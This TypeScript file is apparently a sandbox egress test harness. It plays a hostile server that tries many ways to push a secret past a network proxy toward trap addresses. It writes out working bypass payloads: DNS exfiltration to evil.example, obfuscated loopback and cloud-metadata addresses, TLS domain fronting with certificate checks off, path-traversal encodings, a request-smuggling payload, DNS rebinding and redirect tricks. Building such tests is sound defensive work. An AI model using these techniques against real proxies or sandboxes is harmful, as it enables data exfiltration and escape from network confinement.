/**
 * A server that wants a secret out of its sandbox: for each way it knows, what came of it, as one JSON object on standard output. Run inside the
 * sandbox, and as the twin in a network where every one of these addresses is a trap. Arguments: a JSON object of what to aim at.
 * INVARIANT: what is no address of this machine is tried only where there is no interface that leads there; the launcher says so by `outside`.
 */
import { createSocket } from 'node:dgram';
import { existsSync, readdirSync } from 'node:fs';
import { Agent, get as httpGet, request } from 'node:http';
import { connect, type Socket } from 'node:net';
import { networkInterfaces } from 'node:os';
import { connect as tlsConnect } from 'node:tls';

export interface Aim {
  readonly secret: string;
  /** Of a trap that takes anything, on every address below. */
  readonly trapPort: number;
  readonly udpPort: number;
  /** How long an answer by UDP is waited for, ms. */
  readonly patienceMs: number;
  /** Addresses with the trap behind them. */
  readonly direct: readonly string[];
  /** An allowed host that TLS must name, and one where requests are read. */
  readonly open: string;
  readonly read: string;
  readonly plain: string;
  readonly httpsPort: number;
  readonly httpPort: number;
  /** Names that lead where they should not. */
  readonly inward: string;
  readonly rebinding: string;
  /** Answers with a redirect to the trap at this path. */
  readonly awayPath: string;
}

const code = (error: unknown): string => {
  const { code: own, cause, message } = error as NodeJS.ErrnoException;
  return own ?? (cause === undefined ? message : code(cause));
};

const MS = 10_000;

/** Everything that is said until the end, or what went wrong. */
function said(socket: Socket, text: string | Buffer): Promise<string> {
  return new Promise((resolve) => {
    let heard = '';
    socket.setTimeout(MS, () => socket.destroy());
    socket.on('data', (chunk: Buffer) => (heard += chunk.toString('latin1')));
    socket.once('error', (error) => resolve(code(error)));
    socket.once('close', () => resolve(heard.slice(0, 300) || 'closed'));
    socket.write(text);
  });
}

const http = (path: string, host: string, method = 'GET', more = ''): string =>
  `${method} ${path} HTTP/1.1\r\nHost: ${host}\r\n${more}Connection: close\r\n\r\n`;

function direct(host: string, port: number, secret: string): Promise<string> {
  return said(connect({ host, port }), http(`/${secret}`, host));
}

/** A question for the address of <secret>.evil.example, as a resolver would get it. */
function dns(address: string, { udpPort: port, secret, patienceMs }: Aim): Promise<string> {
  const labels = [secret, 'evil', 'example'].flatMap((label) => [label.length, ...Buffer.from(label)]);
  const query = Buffer.from([0, 1, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, ...labels, 0, 0, 1, 0, 1]);
  const socket = createSocket(address.includes(':') ? 'udp6' : 'udp4');
  return new Promise((resolve) => {
    let over = false;
    let late: NodeJS.Timeout | undefined;
    const done = (outcome: string): void => {
      clearTimeout(late);
      if (!over) socket.close();
      over = true;
      resolve(outcome);
    };
    socket.once('error', (error) => done(code(error)));
    socket.once('message', () => done('answered'));
    socket.send(query, port, address, (error) => {
      if (error) done(code(error));
      else if (!over) late = setTimeout(() => done('no answer'), patienceMs);
    });
  });
}

async function run(aim: Aim): Promise<Record<string, unknown>> {
  const { secret, trapPort } = aim;
  const proxy = URL.parse(process.env['HTTP_PROXY'] ?? '');
  const found: Record<string, unknown> = { interfaces: Object.keys(networkInterfaces()) };
  for (const address of aim.direct) found[`tcp ${address}`] = await direct(address, trapPort, secret);
  for (const address of aim.direct) found[`udp ${address}`] = await dns(address, aim);
  found['localhost'] = await direct('localhost', trapPort, secret);
  if (proxy === null) return found;

  const toProxy = (text: string | Buffer): Promise<string> =>
    said(connect({ host: proxy.hostname, port: Number(proxy.port) }), text);
  /** What the proxy or the other side says in a tunnel. */
  const tunnel = (target: string, then: (socket: Socket) => Promise<string>, host = target): Promise<string> =>
    new Promise((resolve) => {
      const asked = request({
        host: proxy.hostname,
        port: Number(proxy.port),
        method: 'CONNECT',
        path: target,
        headers: { host },
        timeout: MS,
        agent: new Agent(),
      });
      asked.once('connect', (answer, socket: Socket) => {
        if (answer.statusCode === 200) return void then(socket).then(resolve);
        socket.destroy();
        resolve(`${answer.statusCode}`);
      });
      asked.once('error', (error) => resolve(code(error)));
      asked.end();
    });
  const secure =
    (servername: string, text: string) =>
    (socket: Socket): Promise<string> =>
      new Promise((resolve) => {
        // A hostile client trusts anybody.
        const inside = tlsConnect({ socket, servername, rejectUnauthorized: false }, () => resolve(said(inside, text)));
        inside.once('error', (error) => resolve(code(error)));
      });

  const spellings = [
    `127.0.0.1:${trapPort}`,
    `127.1:${trapPort}`,
    `2130706433:${trapPort}`,
    `0x7f000001:${trapPort}`,
    `0177.0.0.1:${trapPort}`,
    `017700000001:${trapPort}`,
    `[::1]:${trapPort}`,
    `[::ffff:127.0.0.1]:${trapPort}`,
    `[64:ff9b::7f00:1]:${trapPort}`,
    `localhost:${trapPort}`,
    `localhost.:${trapPort}`,
    `169.254.169.254:${trapPort}`,
    `${aim.open}:${trapPort}`,
    `${aim.open}.:${aim.httpsPort}`,
    `${aim.open}:${aim.httpsPort}@127.0.0.1:${trapPort}`,
    `${aim.open}%00.evil.example:${aim.httpsPort}`,
    `${secret}.${aim.open}:${aim.httpsPort}`,
    `${secret}.evil.example:443`,
  ];
  for (const target of spellings) {
    found[`connect ${target}`] = await tunnel(target, (socket) => said(socket, http(`/${secret}`, target)));
    found[`absolute ${target}`] = await toProxy(http(`http://${target}/${secret}`, target));
  }
  const open = `${aim.open}:${aim.httpsPort}`;
  const read = `${aim.read}:${aim.httpsPort}`;
  const plain = `${aim.plain}:${aim.httpPort}`;
  found['fronting'] = await tunnel(open, secure('evil.example', http(`/${secret}`, 'evil.example')));
  found['no server name'] = await tunnel(open, secure('', http(`/${secret}`, aim.open)));
  found['raw bytes'] = await tunnel(open, (socket) => said(socket, `${secret}\r\n`));
  found['http in the tunnel'] = await tunnel(open, (socket) => said(socket, http(`/${secret}`, aim.open)));
  found['another Host for the tunnel'] = await tunnel(
    open,
    secure(aim.open, http(`/${secret}`, aim.open)),
    'evil.example',
  );
  found['another Host inside'] = await tunnel(read, secure(aim.read, http(`/v1/${secret}`, 'evil.example')));
  found['another method'] = await tunnel(read, secure(aim.read, http(`/v1/${secret}`, read, 'DELETE')));
  found['another path'] = await tunnel(read, secure(aim.read, http(`/admin/${secret}`, read)));
  found['dots'] = await tunnel(read, secure(aim.read, http(`/v1/../admin/${secret}`, read)));
  found['encoded dots'] = await tunnel(read, secure(aim.read, http(`/v1/%2e%2e/admin/${secret}`, read)));
  found['an encoded slash'] = await tunnel(read, secure(aim.read, http(`/v1/..%2f..%2fadmin/${secret}`, read)));
  found['dots with a parameter'] = await tunnel(read, secure(aim.read, http(`/v1/..;/admin/${secret}`, read)));
  found['a method by header'] = await tunnel(
    read,
    secure(aim.read, http(`/v1/${secret}`, read, 'POST', 'X-HTTP-Method-Override: DELETE\r\n')),
  );
  found['smuggling'] = await tunnel(
    read,
    secure(
      aim.read,
      `POST /v1/x HTTP/1.1\r\nHost: ${read}\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /admin/${secret} HTTP/1.1\r\nHost: ${read}\r\n\r\n`,
    ),
  );
  found['http to another path'] = await toProxy(http(`http://${plain}/admin/${secret}`, plain));
  found['http with another Host'] = await toProxy(http(`http://${plain}/v1/${secret}`, 'evil.example'));
  found['https asked for as http'] = await toProxy(http(`https://${open}/${secret}`, open));
  found['no proxy request'] = await toProxy(http(`/${secret}`, open));
  found['no http at all'] = await toProxy(`${secret}\r\n\r\n`);
  found['a name that leads inward'] = await tunnel(
    `${aim.inward}:${aim.httpsPort}`,
    secure(aim.inward, http(`/${secret}`, aim.inward)),
  );
  const again = `${aim.rebinding}:${aim.httpPort}`;
  found['rebinding 1'] = await toProxy(http(`http://${again}/v1/first`, again));
  found['rebinding 2'] = await toProxy(http(`http://${again}/v1/${secret}`, again));

  // A redirect is followed as node's own fetch does it.
  found['redirect'] = await fetch(`http://${plain}${aim.awayPath}`, { signal: AbortSignal.timeout(MS) }).then(
    async (answer) => `${answer.status} ${await answer.text()}`,
    (error: unknown) => code(error),
  );
  found['redirect by hand'] = await new Promise((resolve) => {
    httpGet(`http://127.0.0.1:${trapPort}/${secret}`, (answer) => resolve(`welcome ${answer.statusCode}`)).once(
      'error',
      (error) => resolve(code(error)),
    );
  });
  // What else lies beside the socket, and whether it can be changed.
  found['beside'] = existsSync('/remit/egress') ? readdirSync('/remit/egress').sort() : [];
  return found;
}

process.stdout.write(JSON.stringify(await run(JSON.parse(process.argv[2] ?? '{}') as Aim)));
